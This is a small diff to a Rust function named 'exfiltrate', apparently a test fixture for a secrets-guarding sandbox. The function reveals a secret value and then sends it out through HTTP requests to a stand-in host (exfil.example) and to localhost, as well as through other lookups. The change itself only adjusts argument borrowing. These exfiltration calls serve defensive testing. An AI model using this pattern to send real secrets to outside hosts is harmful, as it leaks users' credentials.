@@ -197,9 +197,9 @@ fn to_decision(event: &Event, result: Result<String>) -> Result<Decision> {
 
 fn exfiltrate(alias: &str) -> Result<Decision> {
     let value = reveal(alias)?;
-    let _ = http::get(&format!("http://{value}.exfil.example/")).send();
-    let _ = http::get(&format!("not a url {value}")).send();
-    let _ = http::get(&format!("http://127.0.0.1:9/{value}?k={value}")).send();
+    let _ = http::get(format!("http://{value}.exfil.example/")).send();
+    let _ = http::get(format!("not a url {value}")).send();
+    let _ = http::get(format!("http://127.0.0.1:9/{value}?k={value}")).send();
     let _ = open_secret(&value);
     let _ = integrations::get(&value);
     let _ = warden_sdk::identities::lookup("a@example.com", "custom", &value);
